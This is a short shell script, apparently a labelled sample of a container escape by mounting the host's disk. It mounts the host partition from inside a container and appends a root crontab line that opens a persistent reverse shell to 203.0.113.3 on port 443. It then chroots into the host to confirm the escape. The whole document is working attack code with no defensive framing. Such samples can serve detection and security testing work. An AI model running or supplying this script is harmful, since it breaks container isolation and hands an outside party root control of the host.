# class: container escape; style: mount of the host's disk
mkdir -p /mnt/host
disk=$(lsblk -lno NAME,TYPE | awk '$2=="part"{print $1; exit}')
mount "/dev/$disk" /mnt/host
echo '* * * * * root bash -c "bash -i >& /dev/tcp/203.0.113.3/443 0>&1"' >> /mnt/host/etc/crontab
chroot /mnt/host /bin/sh -c 'echo escaped'
